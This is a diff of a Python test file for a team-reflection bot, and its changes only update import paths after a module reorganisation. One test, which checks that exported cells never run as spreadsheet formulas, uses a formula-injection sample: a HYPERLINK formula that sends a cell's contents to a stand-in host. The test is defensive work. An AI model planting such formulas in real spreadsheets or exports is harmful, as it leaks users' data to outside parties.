@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from outcomes_bot.teams import Teams, code_hash
+from outcomes_bot.team.teams import Teams, code_hash
 
 
 def team_with(flows, store, engine):
@@ -59,7 +59,7 @@ def test_roles_co_supervisors_leaving_and_choosing_a_team(flows, store, engine):
 
 
 def test_ids_are_never_reused_so_an_old_button_cannot_act_on_a_new_thing(flows, store, engine):
-    from outcomes_bot.reflections import Reflections
+    from outcomes_bot.team.reflections import Reflections
 
     teams, code = team_with(flows, store, engine)
     notes = Reflections(flows, store)
@@ -78,7 +78,7 @@ def test_ids_are_never_reused_so_an_old_button_cannot_act_on_a_new_thing(flows, 
 
 
 def test_a_choice_about_identifying_details_applies_only_to_its_own_draft(flows, store):
-    from outcomes_bot.reflections import Reflections
+    from outcomes_bot.team.reflections import Reflections
 
     notes = Reflections(flows, store)
     first = notes.write("wyn", "Mrs Jones smiled")[0].buttons
@@ -143,7 +143,7 @@ def test_the_last_supervisor_cannot_leave_others_behind_and_a_schedule_outlives_
 
 
 def test_exported_cells_never_run_as_spreadsheet_formulas(flows, store, engine):
-    from outcomes_bot.reflections import Reflections
+    from outcomes_bot.team.reflections import Reflections
 
     teams, _ = team_with(flows, store, engine)
     saved = Reflections(flows, store).write("wyn", '=HYPERLINK("http://x.example/?"&A1,"click")')[0].buttons
@@ -155,8 +155,8 @@ def test_exported_cells_never_run_as_spreadsheet_formulas(flows, store, engine):
 
 def test_a_round_link_works_whatever_its_random_token_ends_with(flows, store, monkeypatch):
     """A token is random, so it may itself end in "-s", the mark of the support link."""
-    from outcomes_bot import tea_store
-    from outcomes_bot.teabrief import TeaBrief
+    from outcomes_bot.store import teabrief as tea_store
+    from outcomes_bot.team.teabrief import TeaBrief
 
     monkeypatch.setattr(tea_store.secrets, "token_urlsafe", lambda n: "abcdefghij-s")
     tea = TeaBrief(flows, store)
@@ -171,8 +171,8 @@ def test_a_round_link_works_whatever_its_random_token_ends_with(flows, store, mo
 
 def test_after_forget_a_persons_id_is_nowhere_in_the_database(flows, store, engine):
     """Everything that named the supervisor: a team, a prompt, a schedule, a reflection, a tea-brief round."""
-    from outcomes_bot.reflections import Reflections
-    from outcomes_bot.teabrief import TeaBrief
+    from outcomes_bot.team.reflections import Reflections
+    from outcomes_bot.team.teabrief import TeaBrief
 
     teams, _ = team_with(flows, store, engine)
     teams.send_prompt("sup", "What went well?")
